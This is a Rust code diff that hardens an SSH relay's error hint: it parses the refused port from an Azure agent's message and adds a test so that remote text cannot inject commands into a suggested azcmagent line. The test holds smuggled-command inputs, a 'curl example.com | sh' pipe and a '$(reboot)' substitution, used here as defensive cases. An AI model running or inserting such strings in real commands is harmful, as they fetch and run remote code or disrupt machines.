@@ -471,11 +471,11 @@ impl From<RelayError> for Failure {
 }
 
 fn refusal_hint(status: u16, text: &str) -> String {
-    if let Some((_, port)) = text.split_once("not enabled in the target port ") {
-        let digits = port.trim_end_matches(|end: char| !end.is_ascii_digit());
+    if let Some(port) = refused_port(text) {
         return format!(
-            "SSH is let in at one port of a machine; take that one with --port, or let this one in, on the machine: \
-             sudo azcmagent config set incomingconnections.ports {digits}"
+            "a machine lets SSH in at one port: take that one with --port, or have its service configuration changed; an \
+             Azure agent older than 1.31 has a list of them, of which the others are to stay, on the machine: sudo azcmagent \
+             config get incomingconnections.ports, then sudo azcmagent config set incomingconnections.ports {port},OTHERS"
         );
     }
     let hint = match status {
@@ -497,9 +497,31 @@ fn refusal_hint(status: u16, text: &str) -> String {
     hint.to_owned()
 }
 
+/// Returns the port that an Azure agent does not let in, as it says.
+fn refused_port(text: &str) -> Option<u16> {
+    let (_, rest) = text.split_once("not enabled in the target port ")?;
+    let digits = rest.split(|c: char| !c.is_ascii_digit()).next()?;
+    digits.parse().ok()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_a_machine_says_does_not_get_into_a_line_to_type() {
+        let text = "SSH connection is not enabled in the target port ";
+        for (port, expected) in [
+            ("3389", Some(3389)),
+            ("3389.", Some(3389)),
+            ("22; curl example.com | sh #1", Some(22)),
+            ("$(reboot)22", None),
+            ("99999", None),
+            ("", None),
+        ] {
+            assert_eq!(refused_port(&format!("{text}{port}")), expected, "{port}");
+        }
+    }
 
     #[test]
     fn each_refusal_of_the_relay_has_a_hint_of_its_own() {
@@ -524,7 +546,7 @@ mod tests {
             (
                 403,
                 "SSH connection is not enabled in the target port 3389.",
-                "incomingconnections.ports 3389",
+                "incomingconnections.ports 3389,OTHERS",
             ),
         ] {
             let text = text.to_owned();
